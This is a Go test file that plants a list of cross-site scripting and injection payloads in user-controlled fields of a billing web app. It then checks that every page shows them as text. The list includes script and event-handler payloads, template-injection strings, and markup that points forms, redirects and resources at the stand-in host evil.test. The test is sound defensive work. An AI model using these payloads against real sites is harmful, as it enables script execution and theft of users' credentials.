package handlers_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"extrausage/billing"
	"extrausage/pricing"
)

// payloads are texts that run, or change the page, where they are not escaped. Each is short enough for any field.
var payloads = []string{
	`<xss-canary onclick=xss()>`, `"><xss-canary>`, `'><xss-canary>`, `</title><xss-canary>`, `</textarea><xss-canary>`, `</script><xss-canary>`,
	`<script>xss()</script>`, `<ScRiPt src=//evil.test></sCrIpT>`, `<img src=x onerror=xss()>`, `<svg/onload=xss()>`, `<body onload=xss()>`,
	`" autofocus onfocus=xss() x="`, `' onmouseover=xss() x='`, "` onmouseover=xss() x=`", `javascript:xss()`, `<a href=javascript:xss()>x</a>`,
	`<form action=//evil.test><input name=password>`, `<base href=//evil.test>`, `<meta http-equiv=refresh content=0;url=//evil.test>`,
	`<link rel=stylesheet href=//evil.test>`, `<style>*{display:none}</style>`, `<iframe srcdoc="<script>xss()</script>">`,
	`<object data=//evil.test>`, `<embed src=//evil.test>`, `<math><mtext><xss-canary>`, `<template><xss-canary>`, `<div hx-get=/sign-out hx-trigger=load>`,
	`--><xss-canary>`, `<!--<xss-canary>`, `]]><xss-canary>`, `&lt;xss-canary&gt;`, `&#60;xss-canary&#62;`, `\u003cxss-canary\u003e`,
	`%3Cxss-canary%3E`, `{{constructor.constructor('xss()')()}}`, `{{.Frame}}`, `${xss()}`, `<xss-canary/style="x"`, `<<xss-canary>>`, "<\u200bxss-canary>",
	`<x class="button"`, `[x](javascript:xss())`, `<details open ontoggle=xss()>`, `<plaintext>`, `<noscript><xss-canary>`, `=HYPERLINK("//evil.test")`,
}

// Text that others chose shows as text, on every page, to whoever looks.
func TestTextShowsAsText(t *testing.T) {
	w := newWorld(t)
	staffID, err := w.svc.CreateStaff(t.Context(), billing.NewStaff{Email: "o'x&=@support.test", Name: `<xss-canary> & "Sam"`, Locale: "en", Password: password})
	w.must(err)
	helper := w.browser().signIn("o'x&=@support.test")
	for _, p := range payloads {
		w.plant(p, staffID)
		found := ""
		for _, r := range w.routes() {
			if !r.safe() || r.who == machine || strings.HasPrefix(r.path, "/dev/gallery") { // the gallery has nothing of others
				continue
			}
			b := w.by(r)
			if r.who == staff {
				b = helper
			}
			query := "?" + form(pairs([]string{"q", "next", "model", "input", "day", "cover", "show", "part"}, p)...)
			a := b.get(r.at(w.params()) + query)
			a.showsNoMarkup(p)
			if a.status != http.StatusOK || r.path == "/settings/usage/activity" { // once more without what it cannot read
				a = b.get(r.at(w.params()))
				a.showsNoMarkup(p)
			}
			if strings.HasPrefix(a.header.Get("Content-Type"), "text/html") {
				found += shown(a)
			}
		}
		for _, r := range w.forms() {
			if last(r) == 0 {
				a := w.by(r).copied().post(r.at(w.params()), pairs(formFields, p)...)
				a.showsNoMarkup(p)
				found += shown(a)
			}
		}
		if n := strings.Count(found, p); n < 8 {
			t.Errorf("%q shows %d times only", p, n)
		}
	}
}

// plant puts a text into everything that others choose.
func (w *world) plant(text, staffID string) {
	w.t.Helper()
	ctx := w.t.Context()
	_, err := w.svc.StartLook(ctx, staffID, w.adaID, text, text)
	w.must(err)
	_, err = w.svc.Look(ctx, staffID, w.adaID)
	w.must(err)
	w.ada.post("/settings/profile/invoice-address", "name", text, "company", text, "address", text+"\n"+text, "tax_id", text).isNoFailure()
	w.browser().with("User-Agent", text).signIn(ada)
	w.event(billing.Event{Account: w.adaID, Model: "claude-haiku-4-5", MessageID: text, Source: text, Usage: pricing.Usage{Input: 1000}})
	_, _, err = w.svc.Hold(ctx, billing.HoldRequest{
		Caller: "key", Key: text, Fingerprint: text, Account: w.adaID, Model: text, Worst: pricing.Usage{Input: 1, Output: 1},
	})
	w.must(err)
}

// shown is the text of a page and of its fields, as people read it.
func shown(a *answer) string {
	text := textOf(a.doc())
	for _, n := range a.all("input") {
		text += "\n" + attrOf(n, "value")
	}
	return text + "\n"
}

// showsNoMarkup fails the test where a text has become part of the page's structure.
func (a *answer) showsNoMarkup(text string) {
	a.t.Helper()
	if strings.HasPrefix(a.header.Get("Content-Type"), "application/") || a.body == "" {
		return
	}
	if strings.HasPrefix(a.header.Get("Content-Type"), "text/csv") {
		for line := range strings.Lines(a.body) {
			for _, cell := range strings.Split(line, ",") {
				if cell = strings.Trim(cell, "\"\r\n"); cell != "" && strings.ContainsRune("=+@\t", rune(cell[0])) {
					a.t.Errorf("%s: the cell %s", a.what, cell)
				}
			}
		}
		return
	}
	a.fitsPolicy()
	for n := range a.doc().Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "xss-canary", "iframe", "object", "embed", "base", "math", "plaintext", "noscript":
			a.t.Errorf("%.200s: %q became <%s>", a.what, text, n.Data)
		case "meta":
			if hasAttr(n, "http-equiv") {
				a.t.Errorf("%.200s: %q became <meta http-equiv>", a.what, text)
			}
		}
		for _, name := range []string{"href", "action", "formaction", "hx-get", "hx-post"} {
			u, err := url.Parse(attrOf(n, name))
			if err != nil || u.Host != "" && u.Host != "app.test" || name == "hx-get" && u.Path == "/sign-out" {
				a.t.Errorf("%.200s: %q became %s=%q", a.what, text, name, attrOf(n, name))
			}
		}
	}
}
